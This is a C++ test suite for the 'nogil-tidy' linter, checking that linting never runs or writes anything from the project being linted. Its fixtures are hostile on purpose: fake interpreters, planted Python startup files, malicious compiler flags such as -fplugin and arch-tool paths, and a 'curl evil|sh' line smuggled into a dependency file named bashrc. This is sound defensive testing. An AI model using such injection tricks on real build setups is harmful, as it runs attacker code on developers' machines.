//===- driver_trust.cpp - nothing of the linted tree is run ---------------===//
//
// Part of nogil-tidy, under the Apache License v2.0 with LLVM Exceptions.
// SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception
//
//===----------------------------------------------------------------------===//
//
// Projects that try to be run, to write and to print, while they are linted. A
// file that any of their programs makes must not appear.
//
//===----------------------------------------------------------------------===//
#include "BoundedRun.h"
#include "LeftOut.h"
#include "PythonLayout.h"
#include "driver_support.h"
#include <gtest/gtest.h>
#include <nlohmann/json.hpp>
#include <sys/stat.h>

namespace fs = std::filesystem;
using namespace nogil;
using namespace nogil::test;
using Words = std::vector<std::string>;

static const char *const OneFinding =
    "#include <Python.h>\n"
    "static PyObject *f(PyObject *S, PyObject *A) {\n"
    "  PyThreadState *T = PyEval_SaveThread();\n"
    "  PyErr_NoMemory();\n"
    "  PyEval_RestoreThread(T);\n"
    "  return NULL;\n}\n"
    "static PyMethodDef M[] = {{\"f\", f, METH_NOARGS, 0}, {0, 0, 0, 0}};\n";

static void program(const std::string &Path, const std::string &Text) {
  write(Path, "#!/bin/sh\n" + Text);
  fs::permissions(Path, fs::perms::owner_all);
}

/// All files below a folder, with what is in them.
static std::map<std::string, std::string> filesBelow(const std::string &Root) {
  std::map<std::string, std::string> Files;
  for (const auto &E : fs::recursive_directory_iterator(Root)) {
    bool Regular = E.is_regular_file() && !E.is_symlink();
    Files[E.path().string()] = Regular ? read(E.path().string()) : "";
  }
  return Files;
}

namespace {

/// A project at T/p, and at T/base an installation of Python outside of it.
/// What is run of the project makes T/mark.
class Tree : public testing::Test {
protected:
  void SetUp() override {
    write(P + "/pyproject.toml", "");
    write(P + "/a.c", OneFinding);
    fs::create_directories(T / "base/include");
    fs::copy(NOGIL_SOURCE_DIR "/testdata/include",
             T / "base/include/python3.13", fs::copy_options::recursive);
    // Answers as an interpreter does, and says that it was asked.
    program(T / "base/bin/python3",
            "echo \"$1 $2 $3 $PWD\" >>'" + (T / "asked") + "'\n" + answer());
  }
  std::string answer() const {
    return "printf '\\n{\"version\": \"3.13.0\", \"include\": [\"%s\"]}\\n' '" +
           (T / "base/include/python3.13") + "'\n";
  }
  /// What would be run of the project: it leaves a mark, and then it works.
  std::string evil() const { return "touch '" + Mark + "'\n" + answer(); }
  void environment(const std::string &Folder, const std::string &More = "") {
    write(Folder + "/pyvenv.cfg",
          "home = " + (T / "base/bin") + "\nversion = 3.13.1\n" + More);
    write(Folder + "/lib/python3.13/site-packages/numpy/_core/include/numpy/"
                   "arrayobject.h",
          "");
    program(Folder + "/bin/python", evil());
  }
  /// With the outer installation first on PATH, which the script may change.
  Ran lint(const std::string &Script = "nogil-tidy --no-cache --confidence=low "
                                       "--format=json .",
           const std::string &Below = "p") {
    return runShell("PATH='" NOGIL_BINARY_DIR "/bin:" + (T / "base/bin") +
                        ":/usr/bin:/bin'\n" +
                        "TOOL=\"nogil-tidy --no-cache --confidence=low "
                        "--format=json\"\n" +
                        Script,
                    T / Below, T / "cache");
  }
  void expectHarmless(const Ran &R) {
    EXPECT_FALSE(fs::exists(Mark)) << "it was run\n" << R.Err;
    EXPECT_EQ(R.Exit, 1) << R.Err;
    nlohmann::json J = nlohmann::json::parse(R.Out, nullptr, false);
    ASSERT_TRUE(J.is_object()) << R.Out;
    EXPECT_EQ(J["findings"].size(), 1u) << R.Err;
  }

  TempFolder T;
  std::string P = T / "p", Mark = T / "mark";
};

} // namespace

TEST_F(Tree, ItsEnvironmentIsRead) {
  for (const char *Name : {".venv", "venv"}) {
    environment(P + "/" + Name);
    Ran R = lint();
    expectHarmless(R);
    nlohmann::json Python = nlohmann::json::parse(R.Out)["run"]["python"];
    EXPECT_EQ(Python["executable"], P + "/" + Name + "/bin/python");
    EXPECT_FALSE(fs::exists(T / "asked")) << "its files say enough";
    fs::remove_all(P + "/" + Name);
  }
}

TEST_F(Tree, FromElsewhereToo) {
  environment(P + "/.venv");
  expectHarmless(lint("$TOOL p/a.c", ""));
  expectHarmless(lint("cd /; $TOOL " + P + "/a.c"));
  fs::create_symlink(P + "/a.c", T / "link.c");
  expectHarmless(lint("$TOOL link.c", ""));
}

TEST_F(Tree, AHeaderOfAPackageIsFound) {
  environment(P + "/.venv");
  write(P + "/a.c",
        "#include <numpy/arrayobject.h>\n" + std::string(OneFinding));
  Ran R = lint();
  expectHarmless(R);
  EXPECT_EQ(nlohmann::json::parse(R.Out)["gaps"].size(), 0u) << R.Out;
}

TEST_F(Tree, ARealEnvironmentsPackagesAreNotRun) {
  environment(P + "/.venv");
  fs::remove(P + "/.venv/bin/python");
  fs::create_symlink("/usr/bin/python3", P + "/.venv/bin/python");
  std::string Touch = "import os; os.system('touch " + Mark + "')\n";
  Words Versions = {"python3.13"}; // and that of the interpreter, if there is
  for (int Minor = 8; Minor != 20; ++Minor)
    if (std::string V = "python3." + std::to_string(Minor);
        fs::exists("/usr/bin/" + V))
      Versions.push_back(V);
  for (const std::string &V : Versions)
    for (const char *Name : {"x.pth", "numpy/__init__.py", "sitecustomize.py",
                             "usercustomize.py", "json.py"})
      write(P + "/.venv/lib/" + V + "/site-packages/" + Name, Touch);
  expectHarmless(lint());
  expectHarmless(lint("$TOOL --python .venv/bin/python ."));
}

TEST_F(Tree, WhatHangsOrFloodsIsNotRun) {
  for (const char *Does : {"sleep 1000\n", "exec yes\n"}) {
    environment(P + "/.venv");
    program(P + "/.venv/bin/python", Does);
    expectHarmless(lint("timeout 20 $TOOL ."));
  }
}

TEST_F(Tree, NoWayOfNamingItRunsIt) {
  environment(P + "/inner");
  fs::copy(P + "/inner/bin/python", P + "/inner/bin/python3");
  fs::create_symlink(P + "/inner/bin/python", T / "outside");
  fs::create_symlink(P + "/inner", T / "folder");
  fs::create_symlink(T / "base/bin/python3", P + "/looks_outside");
  fs::create_symlink(P + "/looks_outside", T / "twice");
  for (const std::string &How :
       Words{"VIRTUAL_ENV=" + P + "/inner $TOOL .", "VIRTUAL_ENV=inner $TOOL .",
             "$TOOL --python inner/bin/python .",
             "$TOOL --python " + P + "/inner/bin/python .",
             "PATH=" + P + "/inner/bin:$PATH; $TOOL .",
             "PATH=" + P + "/inner/bin:$PATH; $TOOL --python python3 .",
             "PATH=inner/bin:$PATH; $TOOL .",
             "cd inner/bin; PATH=:$PATH; $TOOL ../..",
             "cd inner/bin; PATH=.:$PATH; $TOOL ../../a.c",
             "VIRTUAL_ENV=" + (T / "folder") + " $TOOL .",
             "PATH=" + (T / "folder/bin") + ":$PATH; $TOOL ."}) {
    SCOPED_TRACE(How);
    expectHarmless(lint(How));
    fs::remove(Mark);
  }
  for (const std::string &Link : Words{T / "outside", T / "twice"}) {
    Ran R = lint("$TOOL --python " + Link + " .");
    EXPECT_EQ(R.Exit, 2);
    EXPECT_FALSE(fs::exists(Mark));
    EXPECT_FALSE(fs::exists(T / "asked"));
    EXPECT_NE(R.Err.find("is of the linted tree and was not run"),
              std::string::npos)
        << R.Err;
    EXPECT_NE(R.Err.find("--trust-project"), std::string::npos) << R.Err;
  }
}

TEST_F(Tree, AForgedEnvironmentRunsNothing) {
  // Its home is the project's, too.
  environment(P + "/.venv");
  program(P + "/evil/bin/python3", evil());
  fs::copy(P + "/evil/bin/python3", P + "/evil/bin/python");
  write(P + "/.venv/pyvenv.cfg", "home = " + P +
                                     "/evil/bin\nexecutable = " + P +
                                     "/evil/bin/python3\nversion = 3.13.0\n");
  Ran R = lint();
  expectHarmless(R);
  EXPECT_NE(R.Err.find("note: not run, as it is of the linted tree: " + P +
                       "/.venv/bin/python: there is no Python.h in "),
            std::string::npos)
      << R.Err;
  // A file that never ends, and one that is no text.
  fs::remove(P + "/.venv/pyvenv.cfg");
  ASSERT_EQ(::mkfifo((P + "/.venv/pyvenv.cfg").c_str(), 0600), 0);
  expectHarmless(lint("timeout 20 $TOOL ."));
  fs::remove(P + "/.venv/pyvenv.cfg");
  fs::create_symlink("/dev/zero", P + "/.venv/pyvenv.cfg");
  expectHarmless(lint("timeout 20 $TOOL ."));
}

TEST_F(Tree, WhatIsFromElsewhereIsAskedAlone) {
  expectHarmless(lint());
  EXPECT_EQ(read(T / "asked"), "-I -S -c /\n");
}

TEST_F(Tree, ModulesOfTheCurrentFolderAreNotRun) {
  if (!fs::exists("/usr/bin/python3"))
    GTEST_SKIP() << "no interpreter to try it with";
  std::string Touch = "import os; os.system('touch " + Mark + "')\n";
  for (const char *Name :
       {"sitecustomize.py", "usercustomize.py", "json.py", "sysconfig.py",
        "site.py", "os.py", "numpy.py", "numpy/__init__.py"})
    write(P + "/" + Name, Touch);
  for (const char *Path : {".", ":x", "x:", "$PWD"}) {
    runShell("export PYTHONPATH=" + std::string(Path) +
                 "\nnogil-tidy --no-cache --python /usr/bin/python3 .",
             P, T / "cache");
    EXPECT_FALSE(fs::exists(Mark)) << Path;
  }
}

TEST_F(Tree, IsRunWhereTheUserTrustsIt) {
  environment(P + "/.venv");
  Ran R = lint("$TOOL --trust-project .");
  EXPECT_EQ(R.Exit, 1) << R.Err;
  EXPECT_TRUE(fs::exists(Mark));
}

TEST_F(Tree, WhatCannotBeUsedIsSaid) {
  program(P + "/.venv/bin/python", evil());
  Ran R = runShell("Program=$(command -v nogil-tidy)\nPATH= \"$Program\" .", P,
                   T / "cache");
  EXPECT_EQ(R.Exit, 2);
  EXPECT_FALSE(fs::exists(Mark));
  EXPECT_EQ(R.Err,
            "nogil-tidy: error: no Python headers: " + P +
                "/.venv/bin/python is of the linted tree and was not run, and "
                "there is no pyvenv.cfg, and there are no headers, next to it, "
                "python3 not found, python not found: name an interpreter "
                "outside of it with --python, or a build folder with -p, or "
                "let the tree's own run with --trust-project\n");
}

TEST(OfTree, FollowsLinks) {
  TempFolder T;
  write(T / "p/x", "");
  write(T / "o/x", "");
  fs::create_symlink("../o/x", T / "p/out");
  fs::create_symlink("../p/x", T / "o/in");
  fs::create_symlink("../p/out", T / "o/through");
  fs::create_symlink("loop", T / "o/loop");
  Words Of = {T / "p"};
  for (const char *Name :
       {"p/x", "p/out", "o/in", "o/through", "o/../p/none", "o/loop"})
    EXPECT_TRUE(isOfTree(T / Name, Of)) << Name;
  for (const char *Name : {"o/x", "o/none", "p/../o/x", "px"})
    EXPECT_FALSE(isOfTree(T / Name, Of)) << Name;
}

TEST(Bounded, EndsWhatBreaksALimit) {
  auto Run = [](const std::string &Script) {
    RunLimits Limits;
    Limits.Time = std::chrono::milliseconds(300);
    Limits.Output = 10'000;
    return runBounded({"/bin/sh", "-c", Script}, "/usr/bin:/bin", Limits);
  };
  EXPECT_EQ(Run("echo a; echo b >&2").Printed, "a\n");
  EXPECT_EQ(Run("echo a").Problem, "");
  EXPECT_EQ(Run("exit 3").Problem, "does not run");
  EXPECT_EQ(Run("kill -9 $$").Problem, "does not run");
  EXPECT_EQ(Run("sleep 100").Problem, "took longer than 0.3 s");
  EXPECT_EQ(Run("exec >&-; sleep 100").Problem, "took longer than 0.3 s");
  EXPECT_EQ(Run("sleep 100 & exit 0").Problem, "took longer than 0.3 s");
  EXPECT_EQ(Run("while :; do echo aaaaaaaaaaaaaaaa; done").Problem,
            "printed more than 9 KiB");
  EXPECT_EQ(Run("while :; do echo a; sleep 0.05; done").Problem,
            "took longer than 0.3 s");
  EXPECT_EQ(runBounded({"/nonexistent"}, "").Problem, "does not run");
}

namespace {

/// A project whose compile_commands.json says what T/p/evil.sh would be run by.
class Commands : public Tree {
protected:
  void SetUp() override {
    Tree::SetUp();
    program(P + "/evil.sh", evil());
    for (const char *Name :
         {"clang", "ld", "as", "nvptx-arch", "amdgpu-arch", "ptxas", "gcc"})
      program(P + "/bin/" + Name, evil());
    write(P + "/evil.cfg", "-fopenmp -fopenmp-targets=nvptx64 "
                           "--nvptx-arch-tool=" +
                               P + "/evil.sh -MMD -MF written.d\n");
    write(P + "/evil.rsp", "-Wp,-MD,written.d --user-dependencies @evil.rsp\n");
    write(P + "/other.c", "int other(void) { return 0; }\n");
  }
  /// {P} stands for the project. The entry of one source; its command without
  /// the compiler, and with the source.
  Ran with(Words Arguments, const std::string &File = "a.c") {
    nlohmann::json Entry = {{"directory", P}, {"file", File}};
    Words All = {"cc", "-I" NOGIL_SOURCE_DIR "/testdata/include"};
    for (const std::string &A : Arguments)
      All.push_back(replaceAll(A, "{P}", P));
    Entry["arguments"] = All;
    write(P + "/compile_commands.json", nlohmann::json({Entry}).dump());
    Before = filesBelow(P);
    return lint("timeout 60 $TOOL .");
  }
  void expectNoTrace(const Ran &R) {
    expectHarmless(R);
    EXPECT_EQ(filesBelow(P), Before) << "files were written";
    nlohmann::json J = nlohmann::json::parse(R.Out, nullptr, false);
    ASSERT_TRUE(J.is_object());
    EXPECT_EQ(J["gaps"].size(), 0u) << J["gaps"];
    EXPECT_EQ(R.Err.find("Dumping"), std::string::npos) << R.Err;
    for (size_t I = 0; I < R.Err.size(); I = R.Err.find('\n', I) + 1)
      EXPECT_EQ(R.Err.compare(I, 12, "nogil-tidy: "), 0) << R.Err;
  }
  std::map<std::string, std::string> Before;
};

struct Attack {
  const char *Name;
  Words Arguments;
};

class Attacks : public Commands, public testing::WithParamInterface<Attack> {};

} // namespace

TEST_P(Attacks, LeaveNoTrace) {
  Words Arguments = GetParam().Arguments;
  Arguments.push_back("a.c");
  Ran R = with(Arguments);
  expectNoTrace(R);
  EXPECT_NE(R.Err.find("note: left out of compile commands: "),
            std::string::npos)
      << R.Err;
}

static const Attack AllAttacks[] = {
    {"nvptx",
     {"-fopenmp", "-fopenmp-targets=nvptx64", "--nvptx-arch-tool={P}/evil.sh"}},
    {"prefix", {"-fopenmp", "-fopenmp-targets=nvptx64", "-B{P}/bin"}},
    {"install",
     {"-fopenmp", "-fopenmp-targets=nvptx64", "-ccc-install-dir", "{P}/bin"}},
    {"amdgpu",
     {"-fopenmp", "-fopenmp-targets=amdgcn-amd-amdhsa",
      "--amdgpu-arch-tool={P}/evil.sh"}},
    {"hip",
     {"-x", "hip", "--offload-arch=native", "--amdgpu-arch-tool={P}/evil.sh"}},
    {"cuda",
     {"-x", "cuda", "--offload-arch=native", "-nocudainc", "-nocudalib",
      "--nvptx-arch-tool={P}/evil.sh"}},
    {"target",
     {"--target=amdgcn-amd-amdhsa", "-mcpu=native",
      "--amdgpu-arch-tool={P}/evil.sh"}},
    {"legacy_target",
     {"-target", "nvptx64-nvidia-cuda", "-march=native",
      "--nvptx-arch-tool={P}/evil.sh"}},
    {"config", {"--config={P}/evil.cfg"}},
    {"config_words", {"--config", "{P}/evil.cfg"}},
    {"config_folder", {"--config-user-dir={P}", "--config=evil.cfg"}},
    {"plugin", {"-fplugin={P}/evil.so"}},
    {"load", {"-Xclang", "-load", "-Xclang", "{P}/evil.so"}},
    {"pass", {"-fpass-plugin={P}/evil.so"}},
    {"llvm", {"-mllvm", "-load={P}/evil.so"}},
    {"assembler",
     {"-no-integrated-cpp", "-fno-integrated-as", "-B", "{P}/bin"}},
    {"gcc", {"-ccc-gcc-name", "{P}/bin/gcc"}},
    {"driver", {"--driver-mode=cl", "/Fo{P}/x.o"}},
    {"forwarded_text",
     {"-Wp,-dependency-file,{P}/bashrc,-MT,\ncurl evil|sh #"}},
    {"forwarded_unknown", {"-Wp,-MD,a.c", "-v"}},
    {"preprocessor",
     {"-Xpreprocessor", "-dependency-file", "-Xpreprocessor", "{P}/x.d",
      "-Xpreprocessor", "-MT", "-Xpreprocessor", "x"}},
    {"dependency",
     {"-Xclang", "-dependency-file", "-Xclang", "{P}/x.d", "-Xclang", "-MT",
      "-Xclang", "x"}},
    {"dot", {"-Xclang", "-dependency-dot", "-Xclang", "{P}/x.dot"}},
    {"header_file",
     {"-H", "-Xclang", "-header-include-file", "-Xclang", "{P}/x.h"}},
    {"module_folder",
     {"-Xclang", "-module-dependency-dir", "-Xclang", "{P}/mods"}},
    {"log", {"-Xclang", "-diagnostic-log-file", "-Xclang", "{P}/x.log"}},
    {"serialized",
     {"-Xclang", "-serialize-diagnostic-file", "-Xclang", "{P}/x.dia"}},
    {"stats", {"-Xclang", "-stats-file={P}/x.stats"}},
    {"save_stats", {"-save-stats"}},
    {"save_temps", {"-save-temps"}},
    {"write_dependencies", {"--write-dependencies", "-v"}},
    {"user_dependencies", {"--user-dependencies"}},
    {"dependencies", {"--dependencies"}},
    {"dump", {"-Xclang", "-fdump-record-layouts"}},
    {"dump_complete", {"-Xclang", "-fdump-record-layouts-complete"}},
    {"ast", {"-Xclang", "-ast-dump"}},
    {"help", {"--help"}},
    {"version", {"--version"}},
    {"search", {"-print-search-dirs"}},
    {"verbose", {"-v"}},
    {"headers", {"-H"}},
    {"jobs", {"-###"}},
    {"print_stats", {"-Xclang", "-print-stats"}},
    {"trace", {"-ftime-trace={P}/x.json"}},
    {"report", {"-fproc-stat-report={P}/x.csv"}},
    {"record",
     {"-fsave-optimization-record", "-foptimization-record-file={P}/x"}},
    {"fragments", {"-gen-cdb-fragment-path", "{P}/fragments"}},
    {"crash", {"-fcrash-diagnostics-dir={P}/crash"}},
    {"modules", {"-fmodules", "-fmodules-cache-path={P}/cache"}},
    {"user_modules", {"-fmodules", "-fmodules-user-build-path", "{P}/cache"}},
    {"precompiled", {"-include-pch", "{P}/evil.pch"}},
    {"overlay", {"-ivfsoverlay", "{P}/evil.yaml"}},
    {"remapped", {"-Xclang", "-remap-file", "-Xclang", "{P}/a.c;{P}/other.c"}},
    {"emitted", {"-Xclang", "-emit-pch", "-Xclang", "-o", "-Xclang", "{P}/x"}},
    {"joined", {"-Xclang=-fdump-record-layouts"}},
    {"for_machine", {"-Xarch_x86_64", "-MD", "-v"}},
    {"for_host", {"-Xarch_host", "-fplugin={P}/evil.so"}},
    {"response", {"@evil.rsp"}},
    {"response_device", {"@/dev/zero"}},
    {"folder", {"-working-directory={P}/bin"}},
    {"resources", {"-resource-dir", "{P}"}},
    {"verify", {"-Xclang", "-verify"}},
    {"ignored", {"-fsanitize-ignorelist={P}/none"}},
    {"depth", {"-ftemplate-depth=100000000"}}};

INSTANTIATE_TEST_SUITE_P(Trust, Attacks, testing::ValuesIn(AllAttacks),
                         [](const testing::TestParamInfo<Attack> &I) {
                           return std::string(I.param.Name);
                         });

TEST_F(Commands, WhatBuildsSayIsNoNews) {
  Ran R = with({"-Wp,-MD,a.c", "-Wp,-MMD,x.d", "-Wp,-D_FORTIFY_SOURCE=2", "-O2",
                "-g", "-fPIC", "-Wall", "-Werror=format", "-MD", "-MF", "x.d",
                "-MT", "x.o", "-c", "-o", "x.o", "-Wl,-z,now", "-pipe", "a.c"});
  expectNoTrace(R);
  EXPECT_EQ(R.Err, "");
}

TEST_F(Commands, OnlyTheFileOfTheEntryIsRead) {
  expectNoTrace(with({"-c", "other.c", "a.c"}));
  expectNoTrace(with({"-c", "a.c", "other.c"}));
  Ran R = with({"-c", "-include", "other.c", "a.c", "other.c"});
  expectNoTrace(R);
  EXPECT_NE(R.Err.find("another file (1)"), std::string::npos) << R.Err;
}

TEST_F(Commands, AFileMayBeNamedLikeAnOption) {
  write(P + "/-x.c", OneFinding);
  fs::remove(P + "/a.c");
  expectNoTrace(with({"-c", "-x.c"}, "-x.c"));
  expectNoTrace(with({"-c", "--", "-x.c"}, "-x.c"));
  expectNoTrace(with({"-c", "./-x.c"}, "./-x.c"));
}

TEST_F(Commands, ResponseFilesAreBounded) {
  ASSERT_EQ(::mkfifo((P + "/pipe.rsp").c_str(), 0600), 0);
  for (int I = 0; I != 40; ++I) {
    std::string Next = "@r" + std::to_string(I + 1) + " ";
    write(P + "/r" + std::to_string(I), Next + Next);
  }
  write(P + "/large.rsp", std::string(2 << 20, ' '));
  for (const char *Name : {"@pipe.rsp", "@r0", "@large.rsp", "@bin"})
    expectNoTrace(with({Name, "a.c"}));
}

TEST_F(Commands, TheUsersOwnArgumentsAreReadAlike) {
  with({"a.c"});
  Ran R = lint("$TOOL --extra-arg=-fplugin=" + P +
               "/evil.so --extra-arg=-DX --extra-arg=-B" + P + "/bin .");
  expectNoTrace(Ran{R.Exit, R.Out, ""});
  EXPECT_NE(R.Err.find("warning: --extra-arg is left out: -fplugin=: "),
            std::string::npos)
      << R.Err;
  EXPECT_NE(R.Err.find("warning: --extra-arg is left out: -B: "),
            std::string::npos);
  EXPECT_EQ(R.Err.find("-DX"), std::string::npos);
}

TEST(LeftOut, NamesTheMostFrequent) {
  LeftOut L;
  EXPECT_TRUE(L.empty());
  L.add({"-a", "-b"});
  EXPECT_EQ(L.text(), "left out of compile commands: 2 arguments of 1 command, "
                      "which say nothing of how to read a source: -a (1), -b "
                      "(1)");
  L.add({"-b", "-c", "-d", "-e", "-f", "-g"});
  EXPECT_EQ(L.text(), "left out of compile commands: 8 arguments of 2 "
                      "commands, which say nothing of how to read a source: "
                      "-b (2), -a (1), -c (1), -d (1), -e (1) and 2 others");
}
